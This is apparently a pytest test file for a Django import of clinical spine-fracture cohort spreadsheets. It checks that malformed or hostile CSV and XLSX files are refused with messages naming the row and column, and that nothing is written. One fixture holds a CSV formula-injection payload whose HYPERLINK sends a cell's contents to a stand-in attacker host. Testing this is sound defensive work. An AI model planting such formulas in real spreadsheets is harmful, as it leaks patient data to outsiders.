"""Bad input to the cohort import (issue 13, "What must hold: bad input"): every kind of bad file
the issue lists, and the hostile values a clinic's spreadsheet holds, each with a clear message that
names its row and column, nothing written, and never a 500.

Each bad file is a good identified export (a seeded demo cohort) with exactly one thing broken, so a
test shows that this one thing is what the import refuses. Each case is checked three ways: by the
preview (`importing.check`: the exact row, column and message), by the import itself
(`importing.run` refuses and writes no patient, fracture or visit), and by the upload page (a
clinician uploads it: a 200 or a 400 whose page shows the message).
"""

from __future__ import annotations

import csv
import dataclasses
import datetime
import html
import io
from collections.abc import Callable

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import transaction
from django.urls import reverse
from django.utils import timezone

from cohort import data, exports, importing, tables
from cohort.importing import ImportRefused, Problem
from cohort.models import CohortImport
from scoring.models import Fracture, Patient, Visit

pytestmark = pytest.mark.django_db

IMPORT_URL = "/cohort/import/"


# -- a good export, and one thing broken in it ---------------------------------------------------------


@dataclasses.dataclass
class Sheet:
    """An identified export as rows of text, `at` the row the tests break (one with all three
    visits), and the export's own workbook."""

    header: list[str]
    rows: list[list[str]]
    at: int
    workbook: bytes

    @property
    def number(self) -> int:
        """The broken row's number as the spreadsheet shows it (row 1 is the header)."""
        return self.at + 2

    def copy(self) -> Sheet:
        return dataclasses.replace(self, header=list(self.header), rows=[list(row) for row in self.rows])

    def get(self, column: str, at: int | None = None) -> str:
        return self.rows[self.at if at is None else at][self.header.index(column)]

    def set(self, column: str, value: str, at: int | None = None) -> Sheet:
        self.rows[self.at if at is None else at][self.header.index(column)] = value
        return self

    def drop(self, column: str) -> Sheet:
        where = self.header.index(column)
        del self.header[where]
        for row in self.rows:
            del row[where]
        return self

    def add(self, column: str, value: str) -> Sheet:
        """A column at the right, `value` in every row."""
        self.header.append(column)
        for row in self.rows:
            row.append(value)
        return self

    def csv(self, encoding: str = "utf-8") -> bytes:
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\r\n")
        writer.writerow(self.header)
        writer.writerows(self.rows)
        return buffer.getvalue().encode(encoding)

    def xlsx_with(self, column: str, value) -> bytes:
        """The export's own workbook with one cell of the broken row changed (openpyxl)."""
        book = openpyxl.load_workbook(io.BytesIO(self.workbook))
        sheet = book["fractures"]
        names = [cell.value for cell in sheet[1]]
        sheet.cell(row=self.number, column=names.index(column) + 1, value=value)
        buffer = io.BytesIO()
        book.save(buffer)
        return buffer.getvalue()


@pytest.fixture(scope="module")
def export(django_db_setup, django_db_blocker) -> Sheet:
    """A seeded demo cohort's identified export (CSV and XLSX), made in a transaction rolled back
    at once: the tests start from an empty database."""
    with django_db_blocker.unblock(), transaction.atomic():
        call_command("seed_demo", patients=8, seed=13, stdout=io.StringIO())
        table = exports.build(data.read(data.CohortFilter()), identified=True)
        raw, workbook = exports.to_csv(table), exports.to_xlsx(table, identified=True)
        transaction.set_rollback(True)
    header, *rows = csv.reader(io.StringIO(raw.decode("utf-8-sig")))
    complete = [
        at
        for at, row in enumerate(rows)
        if all(row[header.index(f"visit_{kind}_date")] for kind in ("1m", "3m", "6m"))
        and row[header.index("treatment")] == "conservative"
    ]
    assert len(rows) == 8 and complete, "the demo cohort changed: pick another seed"
    return Sheet(header, rows, complete[1] if len(complete) > 1 else complete[0], workbook)


@pytest.fixture
def sheet(export) -> Sheet:
    return export.copy()


@pytest.fixture(autouse=True)
def _private_var(settings, tmp_path):
    """Uploads are kept under a scratch VAR_DIR, not the project's var/."""
    settings.VAR_DIR = tmp_path / "var"
    settings.VAR_DIR.mkdir()


def empty_database() -> tuple[int, int, int]:
    return Patient.objects.count(), Fracture.objects.count(), Visit.objects.count()


def read(tmp_path, content: bytes) -> tables.Table:
    path = tmp_path / "upload"  # no extension, as the page keeps an upload (var/imports/<uuid>)
    path.write_bytes(content)
    return tables.read(path)


def check(tmp_path, content: bytes) -> importing.Report:
    return importing.check(read(tmp_path, content))


def at(report: importing.Report, row: int, column: str) -> list[str]:
    """The messages of the problems on this row and column."""
    return [problem.message for problem in report.problems if (problem.row, problem.column) == (row, column)]


def assert_run_writes_nothing(tmp_path, content: bytes, user) -> str:
    """The import itself refuses the file and writes no record; its message."""
    before = empty_database()
    with pytest.raises(ImportRefused) as refused:
        importing.run(read(tmp_path, content), user=user, source="bad.csv")
    assert empty_database() == before
    assert "nothing was written" in str(refused.value)
    return str(refused.value)


def upload(client, content: bytes, name: str, capture) -> tuple[int, str]:
    """Upload as a clinician and go on to the import's page (once its check has run): the
    status and the text (unescaped) of the page the person reads."""
    with capture(execute=True):  # the check starts when the upload commits (and runs at once in tests)
        response = client.post(IMPORT_URL, {"file": SimpleUploadedFile(name, content)})
    if response.status_code == 302:
        response = client.get(response["Location"])
    assert response.status_code in (200, 400)  # the test client raises on a 500
    return response.status_code, html.unescape(response.content.decode())


def confirm_url(upload_row: CohortImport) -> str:
    return reverse("cohort:import_confirm", args=[upload_row.pk])


@pytest.fixture
def clinician(client, make_user):
    client.force_login(make_user("dr.lin"))
    return client


# -- the good export is good: what each bad case breaks is the one thing changed -------------------------


def test_the_good_export_checks_clean_as_csv_and_as_xlsx(tmp_path, export):
    for content in (export.csv(), export.workbook):
        report = check(tmp_path, content)
        assert report.ok, report.problems[:5]
        assert report.count("patients", "create") == 8 and report.count("fractures", "create") == 8
    assert empty_database() == (0, 0, 0)


# -- the list: each through the preview, the import and the page ---------------------------------


@dataclasses.dataclass(frozen=True)
class Case:
    """A bad file made from the good export, and what the preview must say of it."""

    make: Callable[[Sheet], bytes]
    problem: Callable[[Sheet], Problem]
    name: str = "cohort.csv"


def _duplicate(sheet: Sheet) -> bytes:
    sheet.rows.append(list(sheet.rows[sheet.at]))
    return sheet.csv()


def _second_fracture_other_birth_date(sheet: Sheet) -> bytes:
    row = list(sheet.rows[sheet.at])
    sheet.rows.append(row)
    level = sheet.get("level")
    sheet.set("level", "L4" if level != "L4" else "L3", at=len(sheet.rows) - 1)
    born = datetime.date.fromisoformat(sheet.get("date_of_birth"))
    sheet.set("date_of_birth", born.replace(year=born.year - 1).isoformat(), at=len(sheet.rows) - 1)
    return sheet.csv()


def _last(sheet: Sheet) -> int:
    return len(sheet.rows) + 1


CASES = {
    "wrong type": Case(
        lambda s: s.set("bmd_t_score", "abc").csv(),
        lambda s: Problem(s.number, "bmd_t_score", "“abc”: Enter a number."),
    ),
    "out-of-range value": Case(
        lambda s: s.set("bmd_t_score", "-8.2").csv(),
        lambda s: Problem(s.number, "bmd_t_score", "“-8.2”: Must be at least -7.0."),
    ),
    "missing required column": Case(
        lambda s: s.drop("level").csv(),
        lambda s: Problem(1, "level", "this required column is missing."),
    ),
    "unknown column": Case(
        lambda s: s.add("favourite_colour", "blue").csv(),
        lambda s: Problem(
            1,
            "favourite_colour",
            "not a column of the import table (the data dictionary lists them): rename or remove it.",
        ),
    ),
    "duplicate row": Case(
        _duplicate,
        lambda s: Problem(
            _last(s), "", f"the same patient, level and assessment date as row {s.number}: one row per fracture."
        ),
    ),
    "an MRN with two dates of birth": Case(
        _second_fracture_other_birth_date,
        lambda s: Problem(
            _last(s),
            "date_of_birth",
            f"MRN {s.get('patient')} has two dates of birth: “{s.get('date_of_birth')}” (row {s.number}) and "
            f"“{s.get('date_of_birth', at=len(s.rows) - 1)}”.",
        ),
    ),
    "XLSX formula cell": Case(
        lambda s: s.xlsx_with("bmd_t_score", "=-2-1"),
        lambda s: Problem(s.number, "bmd_t_score", "a formula, not a value: paste the values only."),
        "cohort.xlsx",
    ),
    "CSV formula cell": Case(
        lambda s: s.set("name", '=HYPERLINK("http://evil.example/?"&A2,"Ana")').csv(),
        lambda s: Problem(s.number, "name", "a formula, not a value: paste the values only."),
    ),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_the_preview_names_the_row_the_column_and_what_is_wrong(tmp_path, sheet, case):
    content = case.make(sheet)
    report = check(tmp_path, content)
    expected = case.problem(sheet)
    assert expected in report.problems, [str(problem) for problem in report.problems]
    if not case.name.endswith(".xlsx"):
        assert report.problems == [expected]  # the one thing changed, and nothing else
    assert empty_database() == (0, 0, 0)


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_the_import_refuses_and_writes_nothing(tmp_path, sheet, user, case):
    assert_run_writes_nothing(tmp_path, case.make(sheet), user)


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_the_upload_page_shows_the_problem_and_writes_nothing(
    clinician, sheet, case, django_capture_on_commit_callbacks
):
    content = case.make(sheet)
    status, page = upload(clinician, content, case.name, django_capture_on_commit_callbacks)
    assert status == 200
    assert CohortImport.objects.get().status == CohortImport.Status.REFUSED
    assert str(case.problem(sheet)) in page
    assert "nothing will be written" in page
    assert confirm_url(CohortImport.objects.get()) not in page  # no way to import it
    assert empty_database() == (0, 0, 0)


def test_a_lone_formula_cell_is_not_also_called_a_wrong_number(tmp_path, sheet):
    report = check(tmp_path, sheet.xlsx_with("vas_pre", "=2+3"))
    assert [str(problem) for problem in report.problems] == [
        f"row {sheet.number}, vas_pre: a formula, not a value: paste the values only."
    ]


def test_a_value_the_export_defused_is_a_value_not_a_formula(tmp_path, sheet, user):
    # The export writes a name starting with "=" as "'=…" (a spreadsheet would run it): it imports
    # as the name it is.
    sheet.set("name", "'=Ana Imported")
    report = check(tmp_path, sheet.csv())
    assert report.ok, report.problems
    importing.run(read(tmp_path, sheet.csv()), user=user, source="cohort.csv")
    assert Patient.objects.get(mrn=sheet.get("patient")).name == "=Ana Imported"


# -- a date in the wrong format ------------------------------------------------------------------------


def test_a_birth_date_written_day_first_is_refused_not_guessed(tmp_path, sheet, user):
    born = datetime.date.fromisoformat(sheet.get("date_of_birth"))
    typed = born.strftime("%d/%m/%Y")  # the same day, as a clinic in Europe types it
    sheet.set("date_of_birth", typed)
    report = check(tmp_path, sheet.csv())
    assert at(report, sheet.number, "date_of_birth") == [f"“{typed}”: Enter the date as YYYY-MM-DD."]
    assert_run_writes_nothing(tmp_path, sheet.csv(), user)


def test_an_assessment_date_31_12_2024_is_refused_as_the_wrong_format(tmp_path, sheet):
    sheet.set("assessment_date", "31/12/2024")
    report = check(tmp_path, sheet.csv())
    assert [str(problem) for problem in report.problems] == [
        f"row {sheet.number}, assessment_date: “31/12/2024”: Enter the date as YYYY-MM-DD."
    ]


def test_a_date_in_no_format_at_all_is_refused_on_its_column(tmp_path, sheet, user):
    sheet.set("assessment_date", "March 1st")
    report = check(tmp_path, sheet.csv())
    [message] = at(report, sheet.number, "assessment_date")
    assert message.startswith("“March 1st”: Enter ") and "date" in message
    assert [problem.row for problem in report.problems] == [sheet.number]
    assert_run_writes_nothing(tmp_path, sheet.csv(), user)


def test_a_date_in_the_wrong_format_is_shown_on_the_page(clinician, sheet, django_capture_on_commit_callbacks):
    content = sheet.set("assessment_date", "March 1st").csv()
    status, page = upload(clinician, content, "cohort.csv", django_capture_on_commit_callbacks)
    assert status == 200
    assert CohortImport.objects.get().status == CohortImport.Status.REFUSED
    assert f"row {sheet.number}, assessment_date: “March 1st”: Enter " in page
    assert empty_database() == (0, 0, 0)


def test_a_day_that_does_not_exist_is_refused(tmp_path, sheet):
    sheet.set("assessment_date", "2024-02-30")
    report = check(tmp_path, sheet.csv())
    assert [str(problem) for problem in report.problems] == [
        f"row {sheet.number}, assessment_date: “2024-02-30”: Enter a valid date."
    ]


def test_a_date_in_the_future_is_refused(tmp_path, sheet):
    future = (timezone.localdate() + datetime.timedelta(days=30)).isoformat()
    sheet.set("visit_6m_date", future)
    report = check(tmp_path, sheet.csv())
    assert f"“{future}”: This date is in the future." in at(report, sheet.number, "visit_6m_date")


# -- files that are not a table, or not one the page takes ----------------------------------------------

NOT_A_TABLE = {
    "PDF": (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "This is a PDF, not a table"),
    "PNG": (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00",
        "This is not a CSV or XLSX file: it holds binary data, not text.",
    ),
    "Excel 97-2003": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "This is an Excel 97-2003 workbook (.xls)"),
    "damaged XLSX": (b"PK\x03\x04" + b"\x00" * 100, "The file looks like an XLSX workbook but is damaged"),
    "BOM only": (b"\xef\xbb\xbf", "The file is empty."),
}


@pytest.mark.parametrize(("content", "message"), NOT_A_TABLE.values(), ids=NOT_A_TABLE.keys())
def test_a_file_that_is_not_a_table_is_refused_by_the_import_with_why(tmp_path, user, content, message):
    with pytest.raises(tables.TableError) as refused:
        read(tmp_path, content)
    assert str(refused.value).startswith(message)
    assert empty_database() == (0, 0, 0)


@pytest.mark.parametrize(("content", "message"), NOT_A_TABLE.values(), ids=NOT_A_TABLE.keys())
def test_a_file_that_is_not_a_table_is_refused_on_the_page_with_why(
    clinician, content, message, django_capture_on_commit_callbacks
):
    status, page = upload(clinician, content, "cohort.csv", django_capture_on_commit_callbacks)
    assert status == 200
    upload_row = CohortImport.objects.get()
    assert upload_row.status == CohortImport.Status.REFUSED
    assert upload_row.message.startswith(message)
    assert upload_row.message in page
    assert empty_database() == (0, 0, 0)


def test_why_a_file_is_refused_is_kept_as_parts_and_worded_when_the_page_is_shown(
    clinician, monkeypatch, django_capture_on_commit_callbacks
):
    content, message = NOT_A_TABLE["PDF"]
    upload(clinician, content, "cohort.csv", django_capture_on_commit_callbacks)
    upload_row = CohortImport.objects.get()
    assert upload_row.report["message"]["msgid"].startswith(message)  # the message id, not its words
    monkeypatch.setattr(tables, "gettext", lambda text: f"«{text}»")  # a stand-in language
    page = html.unescape(clinician.get(upload_row.get_absolute_url()).content.decode())
    assert f"«{upload_row.message}»" in page


def test_an_empty_upload_is_refused_by_the_form_and_kept_nowhere(
    clinician, settings, django_capture_on_commit_callbacks
):
    status, page = upload(clinician, b"", "cohort.csv", django_capture_on_commit_callbacks)
    assert status == 400
    assert "The submitted file is empty." in page
    assert not CohortImport.objects.exists()
    assert not (settings.VAR_DIR / "imports").exists() or not any((settings.VAR_DIR / "imports").iterdir())


def test_an_empty_file_is_refused_by_the_import(tmp_path):
    with pytest.raises(tables.TableError, match=r"^The file is empty\.$"):
        read(tmp_path, b"")


def test_a_header_without_rows_writes_nothing_and_says_so(tmp_path, sheet, user):
    sheet.rows = []
    report = check(tmp_path, sheet.csv())
    assert [str(problem) for problem in report.problems] == ["row 2: the table has a header but no rows."]
    assert_run_writes_nothing(tmp_path, sheet.csv(), user)


def test_a_50_mb_upload_is_refused_with_the_limit_and_the_command_and_kept_nowhere(
    clinician, settings, export, django_capture_on_commit_callbacks
):
    good = export.csv()
    body = good.split(b"\r\n", 1)[1]
    content = good + body * (50 * 1024 * 1024 // len(body))
    assert len(content) >= 50 * 1024 * 1024 - len(body)
    status, page = upload(clinician, content, "cohort.csv", django_capture_on_commit_callbacks)
    assert status == 400
    size = f"{len(content) / 1024 / 1024:.1f}"
    assert f"The file is {size} MB; this page takes up to {settings.NASOVCF_IMPORT_MAX_MB} MB." in page
    assert "manage.py import_cohort FILE" in page
    assert not CohortImport.objects.exists()
    imports = settings.VAR_DIR / "imports"
    assert not imports.exists() or not any(imports.iterdir())
    assert empty_database() == (0, 0, 0)


# -- encodings: a name with accents reads right in each ------------------------------------------------


def accented(sheet: Sheet) -> Sheet:
    return sheet.set("name", "José Müller-Ångström")


@pytest.mark.parametrize(
    ("encode", "note"),
    [
        pytest.param(lambda s: s.csv("utf-8"), False, id="UTF-8 without BOM"),
        pytest.param(lambda s: s.csv("utf-8-sig"), False, id="UTF-8 with BOM"),
        pytest.param(lambda s: s.csv("latin-1"), True, id="Latin-1"),
        pytest.param(lambda s: s.csv("cp1252"), True, id="Windows-1252"),
    ],
)
def test_each_encoding_imports_the_accented_name_as_written(tmp_path, sheet, user, encode, note):
    content = encode(accented(sheet))
    report = check(tmp_path, content)
    assert report.ok, report.problems
    assert bool(report.notes) is note
    if note:
        assert "read as Windows-1252 (Latin-1)" in report.notes[0]
    importing.run(read(tmp_path, content), user=user, source="cohort.csv")
    assert Patient.objects.get(mrn=sheet.get("patient")).name == "José Müller-Ångström"


def test_the_page_shows_the_encoding_note_with_the_preview(clinician, sheet, django_capture_on_commit_callbacks):
    status, page = upload(clinician, accented(sheet).csv("latin-1"), "cohort.csv", django_capture_on_commit_callbacks)
    assert status == 200
    assert CohortImport.objects.get().status == CohortImport.Status.CHECKED
    assert "The file is not UTF-8: it was read as Windows-1252 (Latin-1)" in page
    assert empty_database() == (0, 0, 0)  # nothing until the preview is confirmed


def test_a_good_workbook_uploaded_to_the_page_is_checked(clinician, export, django_capture_on_commit_callbacks):
    # The page keeps the upload under its id, without the .xlsx: the workbook is read all the same.
    status, page = upload(clinician, export.workbook, "cohort.xlsx", django_capture_on_commit_callbacks)
    upload_row = CohortImport.objects.get()
    assert (status, upload_row.status, upload_row.message) == (200, CohortImport.Status.CHECKED, "")
    assert confirm_url(upload_row) in page


# -- hostile values: each refused on its row and column, in words ----------------------------------------


def _second_reader_without_first(sheet: Sheet) -> Sheet:
    value = sheet.get("first_reader_vhl_pre_percent") or sheet.get("vhl_pre_percent")
    for column in ("vhl_pre_percent", "first_reader_vhl_pre_percent", "first_reader_name"):
        sheet.set(column, "")
    return sheet.set("second_reader_name", "Dr Second").set("second_reader_vhl_pre_percent", value)


def _visit_before_the_assessment(sheet: Sheet) -> Sheet:
    day_before = datetime.date.fromisoformat(sheet.get("assessment_date")) - datetime.timedelta(days=1)
    return sheet.set("visit_1m_date", day_before.isoformat())


def _non_union_without_evidence(sheet: Sheet) -> Sheet:
    sheet.set("visit_6m_union", "non_union")
    for evidence in importing.EVIDENCE:
        sheet.set(f"visit_6m_{evidence}", "0")
    return sheet


HOSTILE = {
    "a visit before the assessment": (
        _visit_before_the_assessment,
        "visit_1m_date",
        "The visit cannot come before the pretreatment assessment",
    ),
    "a non-union without evidence": (
        _non_union_without_evidence,
        "visit_6m_union",
        "“non_union”: A non-union needs its evidence: a vacuum cleft on MRI or CT, or a change of anterior "
        "height between standing and supine films.",
    ),
    "a T-score of -2.55": (
        lambda s: s.set("bmd_t_score", "-2.55"),
        "bmd_t_score",
        "“-2.55”: Enter at most one decimal (e.g. −2.5): −2.55 has more; a T-score is reported to 0.1.",
    ),
    "level L6": (
        lambda s: s.set("level", "L6"),
        "level",
        "“L6”: Select a valid choice. L6 is not one of the available choices.",
    ),
    "sex X": (lambda s: s.set("sex", "X"), "sex", "“X”: Select a valid choice. X is not one of the available choices."),
    "an MRN with a space": (
        lambda s: s.set("patient", "DEMO 000001"),
        "patient",
        "“DEMO 000001”: Use letters, digits, '-', '/' or '.', starting with a letter or digit.",
    ),
    "a visit's findings without its date": (
        lambda s: s.set("visit_3m_date", ""),
        "visit_3m_date",
        "the 3 months visit has findings but no date: give its date, or clear its columns.",
    ),
    "a VAS of 11": (lambda s: s.set("vas_pre", "11"), "vas_pre", "“11”: Must be at most 10."),
    "a decimal comma": (lambda s: s.set("bmd_t_score", "-2,5"), "bmd_t_score", "“-2,5”: Enter a number."),
    "NaN": (lambda s: s.set("weight_kg", "NaN"), "weight_kg", "“NaN”: Enter a number."),
    "a treatment that does not exist": (
        lambda s: s.set("treatment", "pills"),
        "treatment",
        "“pills”: Select a valid choice. pills is not one of the available choices.",
    ),
}


@pytest.mark.parametrize(("breaks", "column", "message"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_value_is_refused_on_its_row_and_column(tmp_path, sheet, user, breaks, column, message):
    content = breaks(sheet).csv()
    report = check(tmp_path, content)
    messages = at(report, sheet.number, column)
    assert any(message in text for text in messages), [str(problem) for problem in report.problems]
    assert all(problem.row == sheet.number for problem in report.problems)
    assert_run_writes_nothing(tmp_path, content, user)


def test_a_second_reader_s_vhl_without_a_first_is_refused(tmp_path, sheet, user):
    content = _second_reader_without_first(sheet).csv()
    report = check(tmp_path, content)
    assert [str(problem) for problem in report.problems] == [
        f"row {sheet.number}, vhl_pre_percent: Enter the VHL percentage, or all six heights to compute it."
    ]
    assert_run_writes_nothing(tmp_path, content, user)


def test_a_hostile_value_is_shown_on_the_page(clinician, sheet, django_capture_on_commit_callbacks):
    status, page = upload(
        clinician, sheet.set("bmd_t_score", "-2.55").csv(), "cohort.csv", django_capture_on_commit_callbacks
    )
    assert status == 200
    assert (
        f"row {sheet.number}, bmd_t_score: “-2.55”: Enter at most one decimal (e.g. −2.5): −2.55 has more; "
        "a T-score is reported to 0.1." in page
    )
    assert empty_database() == (0, 0, 0)


def test_a_yes_no_column_that_is_neither_has_one_problem_on_its_column(tmp_path, sheet):
    sheet.set("low_energy_trauma", "maybe")
    report = check(tmp_path, sheet.csv())
    assert [str(problem) for problem in report.problems] == [
        f"row {sheet.number}, low_energy_trauma: “maybe” is not 1 (yes) or 0 (no)."
    ]


def test_an_archived_patient_matched_by_mrn_is_refused_and_left_as_it_is(tmp_path, sheet, user, make_patient):
    stored = make_patient(mrn=sheet.get("patient"), name="Archived Name")
    stored.archive(user, "moved away")
    stored.save()
    content = sheet.csv()
    report = check(tmp_path, content)
    assert at(report, sheet.number, "patient") == [
        f"patient {sheet.get('patient')} is archived: restore them in the app first."
    ]
    assert_run_writes_nothing(tmp_path, content, user)
    stored.refresh_from_db()
    assert (stored.name, stored.is_archived, stored.version) == ("Archived Name", True, stored.version)
    assert empty_database() == (1, 0, 0)


# -- row numbers: the spreadsheet's, whatever blank rows it holds ------------------------------------------


def test_a_problem_after_a_blank_row_names_the_row_the_spreadsheet_shows(tmp_path, sheet):
    sheet.rows.insert(sheet.at, [""] * len(sheet.header))  # a blank line above the broken row
    sheet.at += 1
    sheet.set("bmd_t_score", "abc")
    report = check(tmp_path, sheet.csv())
    assert [str(problem) for problem in report.problems] == [f"row {sheet.number}, bmd_t_score: “abc”: Enter a number."]
